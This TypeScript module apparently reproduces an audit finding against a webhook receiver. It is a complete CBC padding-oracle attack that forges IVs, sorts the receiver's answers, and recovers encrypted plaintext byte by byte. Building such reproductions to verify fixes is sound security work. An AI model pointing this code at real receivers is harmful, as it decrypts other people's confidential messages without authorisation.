/**
 * The CBC padding-oracle attack of issue 15 (finding 3), as an attacker without the Encrypt Key runs
 * it: send {"encrypt": base64(forged IV ‖ captured block)} and sort the webhook's answers. When a
 * badly padded body is answered differently from a well padded one, each byte of the captured block
 * falls after at most 256 requests. Pure TypeScript, so it can be pointed at any receiver.
 */

/** Sends a forged `encrypt` value and returns the answer exactly as the sender sees it. */
export type Probe = (encrypt: string) => Promise<string>;

export interface AttackResult {
	/** The recovered plaintext block; undefined when the answers gave nothing away. */
	plain?: Buffer;
	requests: number;
	/** How many different answers the receiver gave over the whole attack. */
	distinctAnswers: number;
}

/**
 * Recovers the plaintext of `block` (16 bytes of a captured ciphertext; `previous` is the block or IV
 * before it) using only the receiver's answers.
 */
export async function recoverBlock(
	probe: Probe,
	previous: Buffer,
	block: Buffer,
): Promise<AttackResult> {
	const intermediate = Buffer.alloc(16);
	const seen = new Set<string>();
	let requests = 0;
	const ask = async (forged: Buffer) => {
		requests++;
		const answer = await probe(Buffer.concat([forged, block]).toString('base64'));
		seen.add(answer);
		return answer;
	};

	for (let j = 15; j >= 0; j--) {
		const pad = 16 - j;
		const forgedFor = (guess: number) => {
			const forged = Buffer.alloc(16);
			for (let k = j + 1; k < 16; k++) forged[k] = intermediate[k] ^ pad;
			forged[j] = guess;
			return forged;
		};
		const byAnswer = new Map<string, number[]>();
		for (let guess = 0; guess < 256; guess++) {
			const answer = await ask(forgedFor(guess));
			byAnswer.set(answer, [...(byAnswer.get(answer) ?? []), guess]);
		}
		// Bad padding is the common answer; a different, rare one marks the valid padding.
		const groups = [...byAnswer.entries()].sort((a, b) => a[1].length - b[1].length);
		if (groups.length < 2) return { requests, distinctAnswers: seen.size };
		const [validAnswer, candidates] = groups[0];
		let hit = candidates[0];
		if (candidates.length > 1) {
			// Last byte only: "…02 02" pads validly too. Changing the byte before tells them apart.
			for (const guess of candidates) {
				const forged = forgedFor(guess);
				forged[j - 1] ^= 0xff;
				if ((await ask(forged)) === validAnswer) hit = guess;
			}
		}
		intermediate[j] = hit ^ pad;
	}
	const plain = Buffer.alloc(16);
	for (let i = 0; i < 16; i++) plain[i] = intermediate[i] ^ previous[i];
	return { plain, requests, distinctAnswers: seen.size };
}
